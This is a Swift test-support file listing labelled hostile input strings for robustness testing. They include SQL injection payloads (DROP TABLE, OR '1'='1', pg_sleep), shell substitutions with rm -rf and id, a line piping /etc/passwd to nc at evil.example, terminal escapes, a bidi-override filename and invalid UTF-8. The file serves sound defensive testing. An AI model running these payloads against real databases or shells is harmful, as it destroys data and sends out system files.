import Foundation

/// Text an attacker or a broken file sends: SQL, shell, control characters, odd Unicode,
/// replacement characters from invalid UTF-8, and 100 KB of it.
enum HostileText {
    /// Each with a label for failure messages.
    static let samples: [(label: String, text: String)] = [
        ("SQL terminator", "'); DROP TABLE tasks;--"),
        ("SQL tautology", "x' OR '1'='1"),
        ("SQL comment and semicolon", "a; DELETE FROM users; -- b"),
        ("dollar quote", "$$; DROP TABLE teams; $$"),
        ("bind placeholder", "$1 $2 ::text"),
        ("backslash escape", "\\'; SELECT pg_sleep(10); --"),
        ("LIKE wildcards", "100%_\\"),
        ("shell substitution", "$(rm -rf /tmp/x) `id`"),
        ("shell operators", "; cat /etc/passwd | nc evil.example 1 & > /tmp/x"),
        ("format string", "%s%n%x%@"),
        ("terminal escape", "\u{1B}[31mred\u{1B}[0m\u{1B}]0;title\u{7}"),
        ("C0 controls", "bell\u{7} backspace\u{8} tab\t vt\u{B} ff\u{C} del\u{7F}"),
        ("carriage return", "first\rsecond"),
        ("bidi override", "\u{202E}gnp.exe"),
        ("zero width", "a\u{200B}b\u{FEFF}c"),
        ("emoji and combining", "👩‍👩‍👧 é e\u{301}"),
        ("replacement characters from invalid UTF-8", String(decoding: [0x41, 0xFF, 0xC3, 0x28, 0xED, 0xA0, 0x80, 0x42], as: UTF8.self)),
        ("100 KB", String(repeating: "'); DROP TABLE tasks;-- ", count: 4_300)),
    ]

    /// NUL, which PostgreSQL text cannot hold.
    static let nul = "before\u{0}after"

    /// The text with every character a Swift `debugDescription` would escape made visible, shortened.
    static func show(_ text: String) -> String {
        let shown = text.debugDescription
        return shown.count > 80 ? String(shown.prefix(77)) + "...\"" : shown
    }
}
